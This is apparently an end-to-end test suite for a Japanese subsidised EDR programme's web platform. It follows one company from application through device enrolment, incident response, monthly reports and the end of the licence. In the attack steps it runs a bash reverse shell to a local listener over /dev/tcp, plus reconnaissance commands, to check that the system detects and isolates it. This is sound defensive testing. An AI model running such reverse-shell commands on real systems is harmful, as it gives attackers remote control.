// timeout: 600
/*
 * One company's way, whole: from the public page to the licence that goes off,
 * on the real centre with a moved programme clock, with a real agent on a PC of
 * its own, and every act of a person done at that person's page. Course ② of
 * programmes/2025-kihon.yaml.
 */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import holidays from "@holiday-jp/holiday_jp";
import { Office } from "../care/company.mjs";
import { tool } from "../wire/centre.mjs";
import { fill, look, Visitors } from "./visitors.mjs";
import { OUTSIDE, PEOPLE, run, sleep, testingIsBuilt, top, until, World } from "./world.mjs";

const FILE = join(top, "programmes/2025-kihon.yaml");
const COMPANY = "株式会社まちかど商店", CONTACT = "商店 花子", MAIL = "hanako@machikado.example", USER = "経理 太郎";
const PASSWORD = "ame-nochi-hare-4711";
const REVERSE_SHELL = "外部から遠隔操作するための接続（リバースシェル）";
const STORY = "経理のパソコンを、外から操作しようとする動きがありました。\n広がる前に通信を止め、原因を取り除いて元に戻しました。情報が持ち出された形跡はありません。";
const DAY_MS = 864e5, TOKYO_MS = 9 * 36e5;

/* What a shop of 30 people writes into the form. */
const ANSWERS = {
	company_kind: "company", company: COMPANY, company_kana: "マチカドショウテン", postal_code: "163-8001", prefecture: "tokyo", address: "新宿区西新宿2-8-1",
	industry: "retail", capital: "1000万", employees: "30", contact: CONTACT, telephone: "03-0000-1234", mail: MAIL, courses: "edr", past_support: "no", subsidy: "no",
	...Object.fromEntries([..."abcdefg"].map((letter) => [`clause_${letter}`, "yes"])), privacy: "yes", conditions: "yes",
};

const root = process.getuid?.() === 0;
if (!root && process.env.CI) throw new Error("the journey needs root, and never skips in CI");
const skip = !root ? "NOT ROOT: namespaces cannot be made, the journey is NOT tested"
	: testingIsBuilt ? false : "NO TEST BUILD: the programme clock cannot be moved, the journey is NOT tested";

/* Tokyo's day, so many days from today. */
const day = (n) => new Date(Date.now() + TOKYO_MS + n * DAY_MS).toISOString().slice(0, 10);
const dayAfter = (from, n) => new Date(Date.parse(from) + n * DAY_MS).toISOString().slice(0, 10);
const isBusinessDay = (text) => ![0, 6].includes(new Date(text).getUTCDay()) && !holidays.isHoliday(new Date(`${text}T00:00:00`));

function businessDays(from, n) {
	let at = from;
	while (n > 0) {
		at = dayAfter(at, 1);
		if (isBusinessDay(at)) n--;
	}
	return at;
}
/* The last day of the nth month from a day: before the same date, or a month's last where it has none (T-47). */
function monthEnd(from, n) {
	const [year, month, date] = from.split("-").map(Number), last = new Date(Date.UTC(year, month - 1 + n + 1, 0)).getUTCDate();
	return dayAfter(new Date(Date.UTC(year, month - 1 + n, Math.min(date, last))).toISOString().slice(0, 10), -1);
}
const short = (text) => `${Number(text.slice(5, 7))}/${Number(text.slice(8))}`;
const japanese = (text) => `令和${Number(text.slice(0, 4)) - 2018}年${Number(text.slice(5, 7))}月${Number(text.slice(8))}日`;

/** @type {World} */ let world;
const visitors = new Visitors();
const who = {}; /* role: page */
let applicant, link, number, application, company, installed, incident, intruder;
const shell = [];
let sixth; /* a command that is good for nothing */
let broken = false;

/* One step of the way; what comes after one that failed says nothing. */
const step = (name, body, options = {}) => test(name, { skip, timeout: 120000, ...options }, async (t) => {
	if (broken) assert.fail("an earlier step failed");
	try {
		await body(t);
	} catch (error) {
		broken = true;
		throw error;
	}
});

const clock = (text) => world.clock("set", text);
const show = async (page, path) => {
	await page.goto(path);
	await page.locator("main h1").first().waitFor();
};
/* The centre's answer to somebody who looks; nothing is done this way. */
const ask = (page, path) => page.evaluate(async (p) => (await fetch(p)).json(), path);
const detail = () => ask(who.secretariat, `/v1/applications/${application}`);

/* A step of the application at somebody's page of it. */
async function act(page, event, answers, becomes) {
	await show(page, `/applications/${application}`);
	await page.locator("article.application").waitFor();
	const choice = page.locator(".event-choice button", { hasText: event }).first();
	if (await choice.count()) await choice.click();
	const form = page.locator(".event-form").filter({ has: page.locator("button[type=submit]", { hasText: event }) });
	await form.waitFor();
	await fill(page, answers, `event-${await form.getAttribute("data-event")}-`);
	await form.locator("button[type=submit]").click();
	await page.locator(`article.application[data-state="${becomes}"]`).waitFor();
}

/* The last mail to the company with these words in its subject, as the outbox shows it. */
async function mail(subject) {
	const page = who.secretariat;
	await show(page, `/mails?q=${encodeURIComponent(MAIL)}`);
	await page.locator("a[data-row]", { hasText: subject }).first().click();
	await page.locator(".mail-body").waitFor();
	assert.match(await page.locator(".facts").first().textContent(), new RegExp(MAIL.replaceAll(".", "\\.")));
	return page.locator(".mail-body").innerText();
}

before(async () => {
	if (skip) return;
	world = new World({ testing: true });
	await world.start();
	await world.centre({ publish: [FILE] });
	world.furnish();
	clock(`${day(-24)}T10:00:00+09:00`);
	await visitors.start(world);
}, { timeout: 60000 });

after(async () => {
	if (process.env.HIKESHI_KEEP && world) console.log(`# kept: ${world.folder}`);
	await visitors.stop();
	await world?.stop();
}, { timeout: 60000 });

step("the office waits, and sees what comes without a reload", async () => {
	for (const role of ["secretariat", "expert", "city", "desk", "analyst", "contractor"]) who[role] = await visitors.staff(role);
	await show(who.secretariat, "/applications");
	await who.secretariat.getByText("申込はまだありません").waitFor();
	await who.secretariat.evaluate(() => { globalThis.same = true; });
});

step("a shop finds the programme and applies, without scripts (R-035, R-012, S-17)", async () => {
	applicant = await visitors.page({ javaScriptEnabled: false });
	const reader = await visitors.page({ bypassCSP: true }); /* axe is a script */
	for (const [path, name] of [["/p/", "site-list"], ["/p/2025-kihon", "site-programme"], ["/p/2025-kihon/apply", "site-form"]]) {
		await reader.goto(path);
		await look(reader, name);
	}
	await fill(reader, ANSWERS);
	await reader.getByRole("button", { name: "内容を確かめる" }).click();
	await reader.getByRole("heading", { name: "内容の確認" }).waitFor();
	await look(reader, "site-check");

	await applicant.goto("/p/");
	await applicant.getByRole("link", { name: "令和7年度中小企業サイバーセキュリティ基本対策事業" }).first().click();
	assert.match(await applicant.locator("#courses").innerText(), /EDR導入コース[\s\S]*残り 50 社（定員 50 社）/);
	await applicant.getByRole("link", { name: "申し込む" }).first().click();
	await fill(applicant, { ...ANSWERS, postal_code: "12" });
	await applicant.getByRole("button", { name: "内容を確かめる" }).click();
	assert.equal(await applicant.locator(".summary a").count(), 1); /* */
	assert.equal(await applicant.locator('[name="company"]').inputValue(), COMPANY, "nothing typed is lost");
	await fill(applicant, { postal_code: "163-8001" });
	await applicant.getByRole("button", { name: "内容を確かめる" }).click();
	await applicant.getByRole("heading", { name: "内容の確認" }).waitFor();
	await applicant.getByRole("button", { name: "この内容で申し込む" }).click();
	await applicant.getByRole("heading", { name: "お申し込みを受け付けました" }).waitFor();
	number = await applicant.locator(".number").first().innerText();
	assert.match(number, /^2025-kihon-\d{5}$/);
	assert.match(await applicant.locator("main").innerText(), /申込完了\s+まだです\s+参加確定\s+まだです/); /* */
	await applicant.goBack(); /* sent twice: one application */
	await applicant.getByRole("button", { name: "この内容で申し込む" }).click();
	assert.equal(await applicant.locator(".number").first().innerText(), number);
	const receipt = new URL(applicant.url()).pathname;
	await reader.goto(receipt);
	await look(reader, "site-receipt");
	await applicant.getByRole("link", { name: "お申し込みの状況を見る" }).click();
	await reader.goto(new URL(applicant.url()).pathname);
	await look(reader, "site-progress");
	assert.deepEqual(await applicant.locator(".facts li").evaluateAll((rows) => rows.map((row) => row.className)), ["done", "open", "open"]);
	await applicant.goto("/p/2025-kihon");
	assert.match(await applicant.locator("#courses").innerText(), /EDR導入コース[\s\S]*残り 49 社/); /* */
	await reader.context().close();

	const page = who.secretariat;
	await page.locator("a[data-row]", { hasText: COMPANY }).waitFor();
	assert.equal(await page.evaluate(() => globalThis.same), true, "no reload");
	assert.equal(await page.locator("a[data-row]").count(), 1);
	await look(page, "applications");
	await page.locator("a[data-row]").click();
	await page.locator("article.application").waitFor();
	application = page.url().split("/").pop();
	company = (await detail()).company.id;
});

step("the mail says what has happened and what has not (S-17, R-036)", async () => {
	const said = await mail("申込フォームを受け付けました");
	const due = businessDays(day(-24), 3);
	assert.match(said, new RegExp(`受付番号：${number}`));
	assert.match(said, /フォームの送信だけでは、申込みは完了していません。参加もまだ確定していません。/);
	assert.match(said, /受付[\s　]*済み[\s\S]*申込完了[\s　]*まだ[\s\S]*参加確定[\s　]*まだ/);
	assert.ok(said.includes(japanese(due)), `${due} is not in ${said}`); /* */
	await look(who.secretariat, "mail");
	link = /https:\/\/\S+\/p\/a\/\S+/.exec(said)[0];
	await applicant.goto(link);
	assert.match(await applicant.locator("main").innerText(), new RegExp(number));
});

step("the office calls within its three business days, and the rules are accepted (R-005, R-007, R-008, S-18)", async () => {
	const page = who.secretariat, due = businessDays(day(-24), 3);
	assert.equal((await detail()).due, due);
	clock(`${due}T16:00:00+09:00`);
	await show(page, `/applications/${application}`);
	assert.match(await page.locator(".title .due").textContent(), new RegExp(`${short(due)}.*今日まで`, "s"));
	assert.equal(await page.locator(".due-breach").count(), 0, "the last day is in time");
	await page.getByRole("button", { name: "つながらなかった" }).click(); /* */
	await page.locator(".contacts .not-reached").waitFor();
	await look(page, "application");
	await act(page, "規定の了承を記録", { channel: "telephone", person: CONTACT, own_cost_told: "yes", note: "規定と費用の負担を説明した。" }, "completed");
	const now = await detail();
	assert.ok(now.completed && !now.confirmed, "complete is not final (R-004)");
	assert.equal(now.due, businessDays(due, 3), "the second clock runs from the completion (R-009)");
	assert.match(await mail("申込みが完了しました"), /参加はまだ確定していません[\s\S]*通信料/); /* */
});

step("the expert asks, and fixes a first date (R-009)", async () => {
	const page = who.expert, { due } = await detail();
	clock(`${due}T09:30:00+09:00`);
	await show(page, "/");
	await page.locator("a[data-row]", { hasText: COMPANY }).waitFor();
	await act(page, "専門家の連絡を記録", { channel: "telephone", security_state: "市販の対策ソフトだけ。更新は各自。", first_date: short(due), first_time: "13:30", form: "visit" }, "diagnosis");
	assert.match(await mail("初回の日程が決まりました"), new RegExp(`${japanese(due)}[\\s\\S]*13:30[\\s\\S]*訪問`));
});

step("the pre-diagnosis with its seven items (R-031, R-047, R-056)", async () => {
	const page = who.expert, { due } = await detail();
	clock(`${due}T15:30:00+09:00`);
	await show(page, `/applications/${application}`);
	await look(page, "diagnosis");
	await act(page, "事前診断の結果を記録", {
		network: "ルーター1台の下にHUB2台。無線あり。", hub_port: "yes", existing_utm: "no", pcs: "12", os: "Windows 11、Debian 12", antivirus: "yes", existing_edr: "no",
		policy: "none", utm_possible: "no", utm_reason: "置き場所がない。", edr_possible: "yes" }, "decision");
	assert.equal((await detail()).confirmed ?? null, null);
});

step("before the course decision nothing is enrolled, and the reason is said (R-003, S-36)", async () => {
	/* To staff the company is none that takes part; somebody with an account of it hears why. */
	await show(who.contractor, "/devices");
	await who.contractor.getByRole("button", { name: "端末を追加する" }).click();
	await who.contractor.locator("#company option").first().waitFor({ state: "attached" });
	assert.ok(!(await who.contractor.locator("#company option").allTextContents()).includes(COMPANY));
	const office = new Office({ data: world.data, people: PEOPLE, ca: join(world.data, "ca.pem") });
	const early = await office.person("owner", { company }, CONTACT), page = await visitors.page();
	await page.context().addCookies([{ name: "__Host-hikeshi", value: early.cookie, url: PEOPLE, secure: true, httpOnly: true, sameSite: "Strict" }]);
	page.expected.push(/^409 .*enrolment-tokens$/);
	await show(page, "/my/devices");
	await page.getByRole("button", { name: "使う人を追加する" }).click();
	await page.getByLabel("使う人の名前").fill(USER);
	await page.getByRole("button", { name: "次へ" }).click();
	assert.match(await page.getByRole("dialog").getByRole("alert").textContent(), /参加の確定と承認が済むまで、端末は登録できません/);
	await look(page, "owner-too-early");
	await page.context().close();
	office.sql(`DELETE FROM session WHERE person = '${early.id}'; DELETE FROM person_role WHERE person = '${early.id}';`);
});

step("the courses are decided: only now participation is final (R-003, R-029)", async () => {
	const page = who.secretariat;
	await act(page, "コースを決定（参加確定）", { courses: ["edr"], agreed: "yes", reason: "診断の結果と希望による。" }, "approval");
	assert.match(await page.locator('[data-mark="confirmed"]').textContent(), /令和/);
	assert.match(await page.locator('[data-mark="approved"]').textContent(), /まだ/);
	assert.match(await mail("支援コースが決まり、参加が確定しました"), /EDR導入コース[\s\S]*承認が済むまでは、パソコンへの導入はできません/);
	/* decided, not approved: the contractor hears the same reason */
	who.contractor.expected.push(/^409 .*enrolment-tokens$/);
	await show(who.contractor, "/devices");
	await who.contractor.getByRole("button", { name: "端末を追加する" }).click();
	await who.contractor.locator("#company").selectOption({ label: COMPANY });
	await fill(who.contractor, { "device-user": USER });
	await who.contractor.getByRole("button", { name: "合言葉を発行する" }).click();
	assert.match(await who.contractor.getByRole("dialog").locator(".problem").textContent(), /承認が済むまで/);
});

step("the city approves, at its own page (R-006)", async () => {
	const page = who.city;
	await show(page, "/");
	assert.match(await page.locator("main h1").textContent(), /承認待ち/);
	assert.equal(await page.locator('nav a[href="/incidents"], nav a[href="/mails"]').count(), 0, "neither incidents nor mails are the city's");
	await look(page, "approvals");
	await page.locator("a[data-row]", { hasText: COMPANY }).click();
	await act(page, "承認", { note: "要件を確認した。" }, "preparing");
	const last = (await ask(page, `/v1/applications/${application}/log`)).items.find((entry) => entry.event === "approve");
	assert.equal(last.actor, "都庁 桜", "by whom, and when");
	await look(page, "approved");
});

step("from the mailed link to an account, with consents in their version", async () => {
	world.clock("real");
	const said = await mail("東京都の承認が済みました");
	const invitation = /https:\/\/\S+\/invitation#\S+/.exec(said)[0];
	const page = who.owner = await visitors.page();
	await show(page, invitation);
	await page.getByRole("heading", { name: "アカウントを作る" }).waitFor();
	await page.getByText(`${COMPANY}さまへ`).waitFor();
	await look(page, "invitation");
	await page.locator("#name").fill(CONTACT);
	await page.locator("#password").fill(PASSWORD);
	await page.getByRole("button", { name: "次へ" }).click();
	await page.getByRole("heading", { name: /同意していただくこと/ }).waitFor();
	assert.match(await page.locator(".own-consent").first().textContent(), /版：\d{4}-\d{2}-\d{2}/);
	assert.equal(await page.getByRole("checkbox", { checked: true }).count(), 0, "nothing is agreed to beforehand");
	await look(page, "invitation-consents");
	for (const box of await page.getByRole("checkbox").all()) await box.check();
	await page.getByRole("button", { name: "アカウントを作って始める" }).click();
	await page.locator('[data-state="before"] h1').waitFor();
	await page.getByText("「パソコン」のページを開いて、最初の1台を登録してください").waitFor();
	await look(page, "owner-home-before");
	assert.match(await page.locator("header .own-call").textContent(), /050-4560-3824/); /* */
	await show(page, "/my/consents");
	assert.ok((await page.locator('[data-row][data-state="given"]').count()) >= 2);
	await look(page, "owner-consents");
	await show(page, "/my/application");
	await look(page, "owner-application");
	const again = await visitors.page();
	again.expected.push(/^410 /);
	await show(again, invitation);
	await again.getByRole("heading", { name: "このご招待は、もう使われています" }).waitFor();
	await look(again, "invitation-used");
	await again.context().close();
});

/* The one command for one more computer of a user, as the owner's page shows it. */
async function commandFor(user, isNew = false) {
	const page = who.owner;
	if (isNew) {
		await page.getByRole("button", { name: "使う人を追加する" }).click();
		await page.getByLabel("使う人の名前").fill(user);
	} else {
		await page.getByRole("button", { name: `${user}さんのパソコンを登録する` }).click();
	}
	await page.getByRole("button", { name: "次へ" }).click();
	return page.locator(".command").textContent();
}

step("one command makes the PC a device, and the trial begins (R-049, R-055, T-47)", async () => {
	const page = who.owner;
	await show(page, "/my/devices");
	const command = await commandFor(USER, true);
	assert.match(command, /^sudo hikeshi-agent enrol --url \S+ --fingerprint [0-9a-f]{64} --token \S+ && sudo systemctl enable --now hikeshi-agent$/);
	await look(page, "owner-install");
	const { status, said } = world.type(command);
	assert.equal(status, 0, said);
	assert.equal(readFileSync(world.path("/run/systemctl"), "utf8"), "enable --now hikeshi-agent\n");
	world.agentAgain("/var/lib/hikeshi/agent");
	await page.getByText("登録できました：office-pc").waitFor();
	await page.getByRole("button", { name: "閉じる" }).click();
	await page.locator('.own-device[data-state="active"]').waitFor();
	installed = day(0);
	const now = await detail();
	assert.equal(now.state, "trial");
	assert.equal(now.trial_end, monthEnd(installed, 3));
	await until("events of the PC", 20, async () => (await ask(who.analyst, "/v1/devices")).items.find((d) => d.hostname === "office-pc")?.last_seen);
	assert.match(await mail("無料体験が始まりました"), new RegExp(`${japanese(installed)}[\\s\\S]*${japanese(now.trial_end)}[\\s\\S]*24時間365日`));
});

step("five computers of a user, and the sixth is refused with the reason (R-053, R-054, S-36)", async () => {
	const page = who.owner;
	const commands = [];
	await show(page, "/my/devices");
	for (let i = 2; i <= 6; i++) {
		commands.push(await commandFor(USER));
		await page.getByRole("button", { name: "閉じる" }).click();
	}
	for (const [i, command] of commands.entries()) {
		const { status, said } = world.type(command, `office-pc-${i + 2}`);
		if (i < 4) assert.equal(status, 0, said);
		else {
			assert.notEqual(status, 0, said);
			assert.match(said, /1人の利用者が登録できる端末は5台までです/, "said at the computer");
		}
	}
	sixth = commands.at(-1);
	const user = page.locator(".own-user", { hasText: USER });
	await user.getByText("5／5台").waitFor();
	await user.getByText("1人5台までです").waitFor();
	assert.equal(await user.getByRole("button", { name: /登録する/ }).count(), 0);
	await look(page, "owner-devices-full");
	page.expected.push(/^409 .*enrolment-tokens$/);
	await page.getByRole("button", { name: "使う人を追加する" }).click();
	await page.getByLabel("使う人の名前").fill("経理　太郎"); /* another space, the same person */
	await page.getByRole("button", { name: "次へ" }).click();
	assert.match(await page.getByRole("dialog").getByRole("alert").textContent(), /1人の利用者が登録できる端末は5台までです/);
	await look(page, "owner-sixth");
	/* by telephone: four are not used any more, and the contractor takes them out */
	for (let i = 2; i <= 5; i++) {
		await show(who.contractor, `/devices?q=office-pc-${i}`);
		await who.contractor.getByRole("link", { name: `office-pc-${i}` }).click();
		await who.contractor.getByRole("button", { name: "端末を失効させる" }).click();
		await who.contractor.getByLabel("理由").fill("もう使わないとの電話");
		await who.contractor.getByRole("dialog").getByRole("button", { name: "端末を失効させる" }).click();
		await who.contractor.locator(".title", { hasText: "失効" }).waitFor();
	}
	await show(page, "/my/devices");
	await page.locator(".own-user", { hasText: "1／5台" }).waitFor();
});

step("the desk looks at every company each day (R-064)", async () => {
	const page = who.desk;
	await show(page, "/checks");
	await page.locator("tr", { hasText: COMPANY }).waitFor();
	while ((await page.evaluate(() => document.activeElement.textContent)) !== COMPANY) await page.keyboard.press("j");
	await page.keyboard.press("c");
	await page.locator('tr[data-checked="calm"]', { hasText: COMPANY }).waitFor();
	await look(page, "checks");
	await show(who.owner, "/");
	await who.owner.locator('[data-state="calm"] h1').waitFor();
	await look(who.owner, "owner-home-calm");
	assert.match(await who.owner.locator("header .own-call").textContent(), /24時間365日/); /* */
});

const LISTENER = `
import net from "node:net";
net.createServer((socket) => {
	console.log("shell open");
	socket.on("data", () => {});
	socket.on("error", () => {});
	socket.on("close", () => console.log("shell closed"));
}).listen(4444, "127.0.0.1", () => console.log("listening"));
`;
const SERVER = `
import net from "node:net";
net.createServer((socket) => { socket.on("error", () => {}); socket.end(); }).listen(9000, "${OUTSIDE}", () => console.log("listening"));
`;
/* Whether the PC reaches somebody outside. */
const reaches = () => spawnSync(...split(world.in(world.office, "timeout", "3", "bash", "-c", `exec 3<>/dev/tcp/${OUTSIDE}/9000`))).status === 0;
const split = ([command, ...args]) => [command, args];

step("an attack on the PC is an incident at the desk, without a reload (R-052)", async () => {
	const page = who.desk;
	for (const [pid, source] of [[world.office, LISTENER], [world.outside, SERVER]]) {
		const service = world.service(pid, source), lines = [];
		service.lines.on("line", (line) => { lines.push(line); shell.push(line); });
		await until("a server", 10, () => lines.includes("listening"));
	}
	await show(page, "/incidents");
	await page.getByText("対応が必要なインシデントはありません").waitFor();
	await page.evaluate(() => { globalThis.same = true; });
	intruder = world.attack("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", "bash");
	await page.getByRole("link", { name: REVERSE_SHELL }).waitFor({ timeout: 5000 });
	assert.equal(await page.evaluate(() => globalThis.same), true);
	assert.ok(shell.includes("shell open"), "it was a real one");
	await look(page, "incidents");
	await page.getByRole("link", { name: REVERSE_SHELL }).click();
	await page.locator(".judgement").waitFor();
	incident = page.url().split("/").pop();
	await show(who.owner, "/");
	await who.owner.locator('[data-state="watch"]').getByText("気になる動きが見つかり、専門スタッフが調べています").waitFor();
});

step("a person judges it, and calls the company (R-061, R-066)", async () => {
	const page = who.desk;
	await page.getByRole("button", { name: "自分が担当する" }).click();
	await page.locator(".facts .state-assigned").waitFor();
	await page.getByLabel("はい。インシデントです").check();
	await page.locator("#judge-reason").fill("外部へ向けた対話型の接続。業務では使わない。");
	await page.getByRole("button", { name: "判断を記録する" }).click();
	await page.locator(".judged.real").waitFor();
	await page.getByRole("button", { name: "つながらなかった" }).click(); /* also who does not answer is written down */
	await page.locator(".contacts .not-reached").waitFor();
	await page.getByText("連絡を記録する").click();
	await page.getByLabel("話した相手").fill(CONTACT);
	await page.getByLabel("隔離の了承").check();
	await page.getByRole("button", { name: "つながった・記録する" }).click();
	await page.locator(".consented").waitFor();
	await page.getByRole("button", { name: "端末を隔離する" }).click();
	await page.locator('dialog [data-consent="yes"]', { hasText: CONTACT }).waitFor();
	await page.getByLabel("理由").fill("被害の拡大を防ぐため。電話で了承を得た。");
	await look(page, "isolate-proposed");
	await page.getByRole("button", { name: "提案する" }).click();
	await page.locator(".action-proposed", { hasText: "端末を隔離する" }).waitFor();
	await look(page, "incident-judged");
	const owner = who.owner;
	await show(owner, "/");
	await owner.locator('[data-state="act"]').getByText("攻撃とみられる動きがあり、専門スタッフが対応しています").waitFor();
	await look(owner, "owner-home-act");
});

step("isolated with the owner's consent, and released (R-057, R-061)", async () => {
	const page = who.analyst;
	await until("the PC reaches the outside", 20, reaches);
	await show(page, `/incidents/${incident}`);
	const act = async (button, name) => {
		await page.getByRole("button", { name: button, exact: true }).click();
		await page.locator(".action-done", { hasText: name }).waitFor({ timeout: 15000 });
	};
	await page.getByRole("button", { name: "承認する" }).click();
	await act("端末へ送る", "端末を隔離する");
	await page.locator(".isolated").waitFor();
	assert.ok(!reaches(), "isolated: nothing gets out");
	await who.owner.goto(`/my/incidents/${incident}`);
	await who.owner.getByText("このパソコンは電源を切らず、そのままにしてください").waitFor();
	await look(who.owner, "owner-incident-isolated");
	await show(who.owner, "/my/devices");
	await who.owner.locator('.own-device[data-state="isolated"]').waitFor();
	await page.getByRole("button", { name: /このプロセスを停止/ }).first().click();
	await page.getByLabel("理由").fill("侵入者の操作を止めるため");
	await act("実行する", "プロセスを停止する");
	await until("the shell ends", 15, () => shell.includes("shell closed"));
	await look(page, "incident-isolated");
	await page.getByRole("button", { name: "隔離を解除する", exact: true }).click();
	await page.getByLabel("理由").fill("原因を取り除いたため");
	await act("実行する", "隔離を解除する");
	await until("the outside again", 20, reaches);
});

step("the story, and only then it is closed (R-061)", async () => {
	const page = who.desk;
	await show(page, `/incidents/${incident}`);
	const move = async (name, state) => {
		await page.getByRole("button", { name, exact: true }).click();
		await page.locator(`.facts .state-${state}`).waitFor();
	};
	await move("調査中", "investigating");
	await move("封じ込め済み", "contained");
	await move("解決", "resolved");
	page.expected.push(/^409 .*\/state$/);
	await page.getByRole("button", { name: "完了", exact: true }).click();
	await page.locator(".side-column .problem", { hasText: "説明" }).waitFor();
	await page.getByRole("button", { name: "下書きから始める" }).click();
	assert.match(await page.locator("#story").inputValue(), /office-pc.*\n[\s\S]*通信を止めました[\s\S]*通信を元に戻しました/);
	await page.locator("#story").fill(STORY);
	await look(page, "story");
	await page.getByRole("button", { name: "会社に見せる" }).click();
	await page.getByRole("button", { name: "文章を直す" }).waitFor();
	await move("完了", "closed");
});

step("the owner reads it in plain words (R-066)", async () => {
	const page = who.owner;
	await show(page, `/my/incidents/${incident}`);
	for (const line of STORY.split("\n")) await page.getByText(line).waitFor();
	const did = await page.locator(".own-log").innerText();
	const order = ["気になる動きを見つけました", "専門スタッフが、攻撃と判断しました", "つながりませんでした", `${CONTACT}さんにお電話でご連絡しました`,
		"通信を止めました", "あやしいプログラムを止めました", "通信を元に戻しました", "結果をまとめました"];
	assert.deepEqual(order.map((text) => did.indexOf(text)).filter((at, i, all) => at < 0 || (i > 0 && at < all[i - 1])), [], did);
	await page.getByText("していただくことはありません。").waitFor();
	await look(page, "owner-incident");
	await show(page, "/my/incidents");
	await page.locator('[data-row][data-state="done"]').waitFor();
	await show(page, "/");
	await page.locator('[data-state="calm"] h1').waitFor();
});

/* Events of the company as they lie in the store, each as it came. */
const stored = () => tool(["stored", join(world.data, "store/events.sqlite"), company]).text.trim().split("\n").filter(Boolean);

/* The report of a month at the owner's page: its figures, and the text of its PDF. */
async function report(n, from, to) {
	const page = who.owner;
	await show(page, "/my/reports");
	const row = page.locator("[data-row]", { hasText: `${n}か月目の報告書` });
	await row.waitFor({ timeout: 30000 });
	assert.match(await row.textContent(), new RegExp(`未読.*${japanese(from)}.*${japanese(to)}.*全3回のうち${n}回目`));
	if (n === 1) await look(page, "owner-reports");
	await row.locator("a").click();
	await page.locator(".own-sentence").waitFor();
	await look(page, `owner-report-${n}`);
	const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: /PDF/ }).click()]);
	const file = join(world.folder, `report-${n}.pdf`), id = page.url().split("/").pop();
	await download.saveAs(file);
	run("pdftoppm", "-r", "80", "-png", file, join(top, `out/screenshots/journey-report-${n}`));
	return { figures: (await ask(page, `/v1/reports/${id}`)).figures.figures, text: run("pdftotext", "-layout", file, "-").replace(/\s+/g, "") };
}

step("the month ends: a report with the store's own figures is there, and a mail says so (R-068)", async () => {
	/* The PC is off, so that nothing more is counted. */
	world.agentProcess.kill("SIGTERM");
	intruder.kill();
	let count = -1;
	await until("nothing more comes", 20, async () => {
		const before = count;
		await sleep(1000);
		count = stored().length;
		return count === before;
	});
	clock(`${dayAfter(installed, 33)}T09:00:00+09:00`);
	const to = monthEnd(installed, 1);
	const { figures, text } = await report(1, installed, to);
	assert.equal(figures.events, count, "as many events as lie in the store");
	assert.equal(figures.incidents, 1);
	assert.equal(figures.incidents_real, 1);
	assert.equal(figures.incidents_open, 0);
	assert.ok(figures.detections >= 1);
	assert.equal(figures.checks_done, 1);
	assert.equal(figures.incident[0].host, "office-pc");
	for (const part of [COMPANY, figures.sentence, STORY, REVERSE_SHELL, figures.events.toLocaleString("en"), ...figures.advice])
		assert.ok(text.includes(part.replace(/\s+/g, "")), `${part} is not in the report`);
	const said = await mail("月次報告書ができました");
	assert.match(said, new RegExp(`${japanese(installed)}\\S*から${japanese(to)}\\S*まで.*全3回のうち1回目[\\s\\S]*https://`));
	assert.doesNotMatch(said, /／|undefined/);
	const page = who.owner;
	await page.goto(/https:\/\/\S+/.exec(said)[0]);
	await page.locator(".own-sentence").waitFor();
	await show(page, "/my/reports");
	await page.locator('[data-row][data-state="read"]').waitFor();
});

step("a month without detections says so; two weeks before the end a mail (R-049, R-071)", async () => {
	const { trial_end } = await detail();
	clock(`${dayAfter(trial_end, -14)}T09:00:30+09:00`);
	const { figures, text } = await report(2, dayAfter(monthEnd(installed, 1), 1), monthEnd(installed, 2));
	assert.equal(figures.detections + figures.incidents, 0);
	assert.match(text, /検知は0件でした/);
	const said = await until("the mail", 20, () => mail("無料体験は"));
	assert.match(said, new RegExp(`終了日は${japanese(trial_end)}`));
	await show(who.owner, "/");
	await who.owner.getByText("あと14日").waitFor();
});

step("the trial ends: the licence goes off on the device (R-058, R-067, S-39)", async () => {
	const page = who.owner, { trial_end } = await detail();
	world.agentAgain("/var/lib/hikeshi/agent");
	const status = () => JSON.parse(spawnSync(...split(world.inOffice("/opt/hikeshi/bin/hikeshi-agent", "status", "--json")), { encoding: "utf8" }).stdout);
	await until("the agent", 20, () => status().running === true && status().sensor && status().sensor !== "none");
	await show(page, "/my/devices");
	clock(`${dayAfter(trial_end, 1)}T00:00:30+09:00`);
	const off = page.locator('.own-device[data-state="off"]', { hasText: "office-pc" });
	await off.waitFor({ timeout: 60000 }); /* no reload */
	await look(page, "owner-devices-off");
	await until("the agent's own word", 20, () => status().licence === "off" && status().sensor === "none");
	await until("ended", 20, async () => (await detail()).state === "ended");
	const before = stored().length;
	world.attack("id; ls /etc; bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", "bash");
	await sleep(3000);
	assert.equal(stored().length, before, "nothing is watched any more");
	await show(page, "/");
	await page.locator('[data-state="after"] h1').waitFor();
	assert.doesNotMatch(await page.locator("header .own-call").textContent(), /24時間/);
	await look(page, "owner-home-after");
	const third = await report(3, dayAfter(monthEnd(installed, 2), 1), trial_end);
	assert.equal(third.figures.detections, 0);
	await show(page, "/my/application");
	await look(page, "owner-application-ended");
	assert.match(await mail("無料体験が終わりました"), /ライセンスを停止/);
	assert.match(await mail("支援が終了しました"), /アンケート/);
	await show(who.secretariat, `/applications/${application}`);
	await who.secretariat.locator('article.application[data-state="ended"]').waitFor();
	await look(who.secretariat, "application-ended");
});

step("after the end nothing is enrolled, and nothing waits", async () => {
	const page = who.owner;
	await show(page, "/my/devices");
	await page.getByText("新しいパソコンは登録できません").waitFor();
	assert.equal(await page.getByRole("button", { name: /追加する|登録する/ }).count(), 0);
	const { status, said } = world.type(sixth, "office-pc-7");
	assert.notEqual(status, 0, said);
	assert.match(said, /ご利用期間が終わっているため、端末は登録できません/, "said at the computer");
	const { jobs } = await ask(who.analyst, "/v1/status");
	assert.deepEqual([jobs.waiting, jobs.failed], [0, 0]);
	/* the company is none of the desk's any more: its page open there does not load again */
	who.desk.wrong = who.desk.wrong.filter((text) => !new RegExp(`^404 .*/incidents/${incident}`).test(text));
	for (const [role, one] of Object.entries(who)) assert.deepEqual(one.wrong, [], role);
});
